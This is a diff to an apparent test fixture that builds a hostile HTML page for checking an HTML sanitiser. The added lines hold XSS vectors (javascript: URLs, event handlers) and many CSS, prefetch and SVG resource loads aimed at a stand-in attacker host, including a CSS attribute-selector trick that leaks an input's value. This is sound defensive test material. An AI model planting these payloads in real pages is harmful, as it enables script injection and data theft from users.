@@ -41,6 +41,16 @@ export const hostileHtml = (evil: string): string => `<!doctype html>
   <math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>
   <template><img src="${evil}template.gif"></template>
   <noscript><p title="</noscript><img src=x onerror=alert('noscript')>">n</p></noscript>
+  <link/rel="prefetch"/href="${evil}slash"><LINK REL=preload AS=font HREF="${evil}font" crossorigin><link rel="modulepreload" href="${evil}module">
+  <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}speculation"]}]}</script>
+  <meta http-equiv="refresh" content="0;javascript:alert('refresh')"><meta http-equiv="x-dns-prefetch-control" content="on">
+  <style>.m { mask: url("${evil}mask.png"); filter: url("${evil}filter.png#a"); clip-path: url("${evil}clip.png#a"); background: image-set(url("${evil}set.png") 1x) }
+  input[value^=s] { background: url("${evil}exfiltrated.png") } @import'${evil}layer' layer(x); @keyframes a { from { background: url("${evil}frame.png") } }</style>
+  <div class="m" style="animation: a 1s" onanimationstart="alert('animation')"><input value="secret"><input type="image" alt="image" src="${evil}input.png"></div>
+  <svg><a href="#" id="a"><set attributeName="onmouseover" to="alert('set')"/><animate attributeName="href" values="javascript:alert('animate')"/></a><feImage href="${evil}fe.png"/></svg>
+  <div><template shadowrootmode="open"><link rel="stylesheet" href="${evil}shadow.css"><img src="${evil}shadow.png"></template></div>
+  <table background="${evil}table.png"><tr><td background="${evil}cell.png">t</td></tr></table>
+  <img src="${evil.replace('http:', '').replaceAll('/', '\\')}backslash.png" alt=""><img src="${evil.replace('http:', 'HTTP:')}upper.png" alt="">
   <ul><li>item</li></ul>
   <p>the last line</p>
 </body>
